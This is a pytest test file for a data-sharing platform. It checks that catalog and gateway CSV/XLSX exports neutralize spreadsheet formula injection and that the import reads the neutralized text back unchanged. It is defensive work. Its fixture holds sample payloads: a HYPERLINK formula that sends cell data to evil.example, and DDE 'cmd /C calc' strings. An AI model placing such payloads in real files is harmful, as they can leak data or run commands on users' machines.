"""Formula injection (CSV injection, OWASP): every CSV or XLSX the platform writes neutralizes a text cell
that a spreadsheet would run as a formula, i.e. one starting with = + - @, a tab or a carriage return (it
gets a leading '). Numbers written as numbers stay numbers; the catalog import reads its own export back.

The exports: the catalog (XLSX and the CSV pair, through the API and the CLI) and the gateway's CSV export
of granted data (DuckDB writes it). Nothing else the platform writes is a spreadsheet file: the audit
archive is JSON Lines and the other exports are JSON."""

from __future__ import annotations

import csv
import io

import duckdb
import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from govshare import spreadsheet
from govshare.catalog import exporter, importer
from govshare.catalog.models import CatalogEntry, DataItem
from govshare.catalog.schemas import ItemIn
from govshare.gateway import service as gateway
from govshare.gateway.models import DataSource
from govshare.search.index import registry
from tests.factories import SYSTEM, published_entry
from tests.gateway_factories import COLUMN_MAP, people, served_population, token_headers

# one text per dangerous start (OWASP: = + - @ tab CR), as an attacker would write them
DANGEROUS = {
    "=": '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-5",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=2+2",
}


@pytest.fixture(autouse=True)
def _no_search_index(request, db):
    """Nothing here searches: publishing need not build a search index."""
    if {"app", "client"} & set(request.fixturenames):
        request.getfixturevalue("app")
    registry.detach(db.url)


def _dangerous_entry(session, world):
    """A published entry whose free-text fields and items start with each dangerous character."""
    items = [
        ItemIn(name="plain", chinese_name=DANGEROUS["-"], description=DANGEROUS["\t"], data_type="string", length=5,
               grade="一般1", personal_info="none"),
        ItemIn(name="=cmd", chinese_name=DANGEROUS["\r"], description=DANGEROUS["@"], data_type="string", length=8,
               grade="一般1", personal_info="none"),
    ]
    return published_entry(session, world, name=DANGEROUS["="], abstract=DANGEROUS["\t"],
                           share_condition=DANGEROUS["\r"], source_system=DANGEROUS["@"], theme=DANGEROUS["+"],
                           items=items)


def _assert_safe_text(value, where: str) -> None:
    if isinstance(value, str):
        assert not value.startswith(tuple(spreadsheet.DANGEROUS)), f"{where}: live formula {value!r}"


def _assert_neutralized(cells: list, stored: str, where: str) -> None:
    """The stored text is in the file, once, as ' + text."""
    assert "'" + stored in cells, f"{where}: {stored!r} not neutralized in {cells!r}"
    assert stored not in cells, f"{where}: {stored!r} exported as it is"


def _stored(session, entry_id: int) -> tuple[list[str], list[str]]:
    entry = session.get(CatalogEntry, entry_id)
    texts = [entry.name, entry.abstract, entry.share_condition, entry.source_system, entry.theme]
    item_texts = [t for item in entry.items for t in (item.name, item.chinese_name, item.description)]
    return texts, [t for t in item_texts if t.startswith(tuple(spreadsheet.DANGEROUS))]


def _check_workbook(content, entry_texts: list[str], item_texts: list[str]) -> None:
    workbook = load_workbook(io.BytesIO(content) if isinstance(content, bytes) else content)
    for sheet, texts in ((exporter.ENTRY_SHEET, entry_texts), (exporter.ITEM_SHEET, item_texts)):
        cells = []
        for row in workbook[sheet].iter_rows(min_row=2):
            for cell in row:
                assert cell.data_type != "f", f"{sheet}!{cell.coordinate} is a formula: {cell.value!r}"
                _assert_safe_text(cell.value, f"{sheet}!{cell.coordinate}")
                cells.append(cell.value)
        for text in texts:  # XML turns a carriage return into a line feed: both are dangerous starts
            _assert_neutralized(cells, text.replace("\r", "\n"), sheet)
    # position and length are numbers, not text: not touched
    positions = [row[1] for row in workbook[exporter.ITEM_SHEET].iter_rows(min_row=2)]
    assert [(c.value, c.data_type) for c in positions] == [(1, "n"), (2, "n")]


def _check_csv(text: str, texts: list[str], where: str) -> None:
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    cells = [cell for row in rows[1:] for cell in row]
    for n, cell in enumerate(cells):
        _assert_safe_text(cell, f"{where} cell {n}")
    for stored in texts:
        _assert_neutralized(cells, stored, where)


# ---------------------------------------------------------------- the rule


def test_the_rule_prefixes_text_with_a_dangerous_start_and_leaves_numbers_alone():
    for start, text in DANGEROUS.items():
        assert spreadsheet.neutralize(text) == "'" + text, start
        assert spreadsheet.restore(spreadsheet.neutralize(text)) == text
    assert spreadsheet.neutralize("人口基本信息") == "人口基本信息"
    assert spreadsheet.neutralize("a=b") == "a=b"
    assert spreadsheet.neutralize(-5) == -5 and spreadsheet.neutralize(-2.5) == -2.5  # numbers stay numbers
    assert spreadsheet.neutralize(None) is None
    # a text already starting with ' before a dangerous character gets one more, so restoring is exact
    assert spreadsheet.neutralize("'=x") == "''=x" and spreadsheet.restore("''=x") == "'=x"
    assert spreadsheet.restore("'plain") == "'plain"


def test_the_duckdb_expression_agrees_with_the_python_rule_and_keeps_numbers():
    texts = [*DANGEROUS.values(), "'=x", "''+y", "'x", "plain", "a=b", "", "\n=3", None]
    connection = duckdb.connect()
    for text in texts:
        got = connection.execute(f"SELECT {spreadsheet.neutralize_sql('v')} FROM (SELECT ?::VARCHAR AS v)",
                                 [text]).fetchone()[0]
        assert got == spreadsheet.neutralize(text), repr(text)
    # a number column is not text: a negative amount is written as -5, never '-5
    number = connection.execute(f"SELECT {spreadsheet.neutralize_sql('v')} FROM (SELECT -5 AS v)").fetchone()[0]
    assert number == "-5"


# ---------------------------------------------------------------- catalog export


def test_catalog_xlsx_export_through_the_api_has_no_formula(client, db, world):
    with db.session() as s:
        entry = _dangerous_entry(s, world)
        entry_texts, item_texts = _stored(s, entry.id)
    assert {t[0] for t in entry_texts + item_texts} >= set(DANGEROUS)  # every dangerous start is in play
    response = client.get("/api/v1/catalog/export?format=xlsx", headers=world.headers("police_manager"))
    assert response.status_code == 200, response.text
    _check_workbook(response.content, entry_texts, item_texts)


def test_catalog_csv_export_through_the_api_neutralizes_entries_and_items(client, db, world):
    with db.session() as s:
        entry = _dangerous_entry(s, world)
        entry_texts, item_texts = _stored(s, entry.id)
    headers = world.headers("police_manager")
    entries = client.get("/api/v1/catalog/export?format=csv", headers=headers)
    items = client.get("/api/v1/catalog/export?format=csv&part=items", headers=headers)
    assert entries.status_code == items.status_code == 200
    _check_csv(entries.text, entry_texts, "catalog.csv")
    _check_csv(items.text, item_texts, "catalog.items.csv")


def test_catalog_export_by_the_cli_neutralizes_xlsx_and_csv(cli_env, db, world, tmp_path):
    from typer.testing import CliRunner

    from govshare.cli import app

    with db.session() as s:
        entry = _dangerous_entry(s, world)
        entry_texts, item_texts = _stored(s, entry.id)
    runner = CliRunner()
    for name in ("catalog.xlsx", "catalog.csv"):
        result = runner.invoke(app, ["catalog", "export", str(tmp_path / name)])
        assert result.exit_code == 0, result.output
    _check_workbook(tmp_path / "catalog.xlsx", entry_texts, item_texts)
    for name, texts in (("catalog.csv", entry_texts), ("catalog.items.csv", item_texts)):
        with (tmp_path / name).open(encoding="utf-8-sig", newline="") as file:  # keep a CR in a cell a CR
            _check_csv(file.read(), texts, name)


@pytest.fixture
def cli_env(settings, db, monkeypatch):
    from govshare.config import get_settings

    monkeypatch.setenv("GOVSHARE_DATABASE_URL", settings.resolved_database_url)
    monkeypatch.setenv("GOVSHARE_DATA_DIR", str(settings.data_dir))
    get_settings.cache_clear()
    yield
    get_settings.cache_clear()


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_catalog_import_reads_its_own_neutralized_export_back_unchanged(db, world, tmp_path, suffix):
    """The ' is the export's, not the data's: importing the file gives the texts as they were stored (the
    import trims surrounding whitespace of every cell, as it always did, so the texts here have none), a
    text that itself starts with ' before = included."""
    items = [ItemIn(name="plain", chinese_name=DANGEROUS["-"], description="'=not a formula either",
                    data_type="string", length=5, grade="一般1", personal_info="none"),
             ItemIn(name="=cmd", chinese_name="+合计", description=DANGEROUS["@"], data_type="string", length=8,
                    grade="一般1", personal_info="none")]
    with db.session() as s:
        published_entry(s, world, name=DANGEROUS["="], abstract="-摘要", source_system=DANGEROUS["@"],
                        theme="+社会保障", items=items)
    with db.session() as s:
        written = exporter.export_file(s, SYSTEM, tmp_path / f"catalog{suffix}")
        s.query(CatalogEntry).delete()
    with db.session() as s:
        report = importer.import_file(s, SYSTEM, written[0])
        assert report.rejected == [] and report.created == 1, report.rejected
    with db.session() as s:
        entry = s.scalars(select(CatalogEntry)).one()
        assert (entry.name, entry.abstract, entry.source_system, entry.theme) == (
            DANGEROUS["="], "-摘要", DANGEROUS["@"], "+社会保障")
        assert [(i.name, i.chinese_name, i.description) for i in entry.items] == [
            ("plain", "-5", "'=not a formula either"), ("=cmd", "+合计", DANGEROUS["@"])]


# ---------------------------------------------------------------- the gateway's CSV export


def test_gateway_csv_export_neutralizes_source_values_masked_values_and_headers(client, db, world, tmp_path):
    """Values of the provider's source starting with each dangerous character, served as stored (`none`)
    and masked (`keep:1:0` keeps the dangerous first character), and an item whose name is dangerous (the
    header row): each is a text cell starting with '."""
    rows = people(len(DANGEROUS) + 2)
    for row, text in zip(rows, DANGEROUS.values(), strict=False):
        row["HJDZ"] = text  # served as stored
        row["XM"] = text.lstrip("\t\r")  # masked keep:1:0: the first character stays
    with db.session() as s:
        served = served_population(s, world, tmp_path, rows=rows, rate_limit=1000)
        gateway.set_masking(s, world.actors["police_reviewer"], served.grant_id, {"hjdz": "none", "xm": "keep:1:0"})
        item = s.scalars(select(DataItem).where(DataItem.entry_id == served.entry_id, DataItem.name == "xzqhdm")).one()
        item.name = "=xzqhdm"
        source = s.scalars(select(DataSource).where(DataSource.entry_id == served.entry_id)).one()
        source.column_map = {**{k: v for k, v in COLUMN_MAP.items() if k != "xzqhdm"}, "=xzqhdm": "XZQH"}
    headers = token_headers(client, served.client_id, served.secret)
    response = client.post(f"/api/v1/data/{served.resource_code}/export", headers=headers,
                           json={"grant": served.grant_id, "format": "csv", "headers": "field"})
    assert response.status_code == 200, response.text
    table = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    header, body = table[0], table[1:]
    assert header == ["gmsfhm", "xm", "csrq", "hjdz", "'=xzqhdm"]
    assert len(body) == len(rows)
    for n, row in enumerate(body):
        for cell in row:
            _assert_safe_text(cell, f"row {n}")
    addresses = [row[3] for row in body]
    for text in DANGEROUS.values():
        _assert_neutralized(addresses, text, "hjdz")
    names = [row[1] for row in body]
    for text in DANGEROUS.values():
        first = text.lstrip("\t\r")[0]
        assert any(name.startswith("'" + first + "*") for name in names), (first, names)
    # the rest of the export is untouched
    assert sorted(row[0][:6] for row in body) == sorted(r["GMSFHM"][:6] for r in rows)


def test_gateway_parquet_export_is_not_a_spreadsheet_and_keeps_values(client, db, world, tmp_path):
    """Parquet is typed data for programs, not opened by spreadsheets: values are exactly as served."""
    import pyarrow.parquet as pq

    rows = people(len(DANGEROUS))
    for row, text in zip(rows, DANGEROUS.values(), strict=True):
        row["HJDZ"] = text
    with db.session() as s:
        served = served_population(s, world, tmp_path, rows=rows, rate_limit=1000)
        gateway.set_masking(s, world.actors["police_reviewer"], served.grant_id, {"hjdz": "none"})
    headers = token_headers(client, served.client_id, served.secret)
    response = client.post(f"/api/v1/data/{served.resource_code}/export", headers=headers,
                           json={"grant": served.grant_id, "format": "parquet"})
    assert response.status_code == 200, response.text
    exported = pq.read_table(io.BytesIO(response.content)).column("hjdz").to_pylist()
    assert sorted(exported) == sorted(DANGEROUS.values())
